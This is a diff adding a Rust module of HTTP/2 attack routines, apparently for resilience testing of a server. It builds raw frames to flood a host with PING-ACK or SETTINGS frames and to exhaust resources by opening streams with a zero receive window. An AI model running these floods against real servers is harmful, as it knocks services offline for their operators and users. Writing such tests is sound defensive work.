@@ -1,0 +1,119 @@
+//! Attackers that speak HTTP/2 in raw frames, from an address of their own.
+
+use std::{
+    io::{Read, Write},
+    net::{SocketAddr, TcpStream},
+    sync::atomic::{AtomicBool, Ordering},
+    thread,
+    time::{Duration, Instant},
+};
+
+use crate::client;
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+const HEADERS: u8 = 1;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+
+const INITIAL_WINDOW_SIZE: u16 = 4;
+
+/// Pause before an attacker whose connection was closed opens another one.
+const PAUSE: Duration = Duration::from_millis(5);
+
+/// The outcome of an attack: frames or requests sent, and connections that the host closed.
+#[derive(Debug, Default, Clone, Copy)]
+pub(crate) struct Sent {
+    pub(crate) items: usize,
+    pub(crate) closed: usize,
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
+    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
+}
+
+/// `GET path` on a stream of its own, in HPACK without its tables of names.
+fn get(stream: u32, path: &str) -> Vec<u8> {
+    let mut payload = vec![0x82, 0x86];
+    for (name, value) in [(4, path), (1, "localhost")] {
+        payload.extend([name, u8::try_from(value.len()).unwrap_or(0)]);
+        payload.extend(value.bytes());
+    }
+    frame(HEADERS, 5, stream, &payload)
+}
+
+fn open(address: SocketAddr, window: Option<u32>) -> Option<TcpStream> {
+    let mut stream = client::socket_from_elsewhere(address).ok()?;
+    stream.set_write_timeout(Some(Duration::from_millis(200))).ok()?;
+    let setting = window.map(|bytes| [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &bytes.to_be_bytes()].concat());
+    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &setting.unwrap_or_default())].concat()).ok()?;
+    Some(stream)
+}
+
+/// Sends one frame again and again, as fast as the host takes it; connections that are closed are opened again.
+pub(crate) fn flood(address: SocketAddr, kind: Flood, ending: &AtomicBool) -> Sent {
+    let one = match kind {
+        Flood::Pongs => frame(PING, 1, 0, &[7; 8]),
+        Flood::Settings => frame(SETTINGS, 0, 0, &[]),
+    };
+    let (many, mut sent) = (one.repeat(512), Sent::default());
+    while !ending.load(Ordering::Relaxed) {
+        let Some(mut stream) = open(address, None) else {
+            thread::sleep(PAUSE);
+            continue;
+        };
+        if let Ok(mut answers) = stream.try_clone() {
+            // What the host answers must not stop it.
+            thread::spawn(move || while answers.read(&mut [0; 16 << 10]).is_ok_and(|read| read > 0) {});
+        }
+        while !ending.load(Ordering::Relaxed) {
+            if stream.write_all(&many).is_err() {
+                sent.closed += 1;
+                thread::sleep(PAUSE);
+                break;
+            }
+            sent.items += 512;
+        }
+        _ = stream.shutdown(std::net::Shutdown::Both);
+    }
+    sent
+}
+
+/// The frames of a flood.
+#[derive(Debug, Clone, Copy)]
+pub(crate) enum Flood {
+    /// `PING` with `ACK`, which answers nothing.
+    Pongs,
+    Settings,
+}
+
+/// Asks for `path` so often a second and takes nothing of the answers: 80 streams a connection.
+pub(crate) fn hoard(address: SocketAddr, path: &str, pace: f64, ending: &AtomicBool) -> Sent {
+    let (began, mut sent, mut held) = (Instant::now(), Sent::default(), vec![]);
+    let mut on_one = u32::MAX;
+    while !ending.load(Ordering::Relaxed) {
+        let due = Duration::from_secs_f64(sent.items as f64 / pace);
+        thread::sleep(due.saturating_sub(began.elapsed()).min(Duration::from_millis(50)));
+        if began.elapsed() < due {
+            continue;
+        }
+        if on_one >= 80 {
+            let Some(stream) = open(address, Some(0)) else {
+                thread::sleep(PAUSE);
+                continue;
+            };
+            held.push(stream);
+            on_one = 0;
+        }
+        let Some(stream) = held.last_mut() else { continue };
+        sent.items += 1;
+        if stream.write_all(&get(2 * on_one + 1, path)).is_err() {
+            sent.closed += 1;
+            on_one = u32::MAX;
+            continue;
+        }
+        on_one += 1;
+    }
+    sent
+}
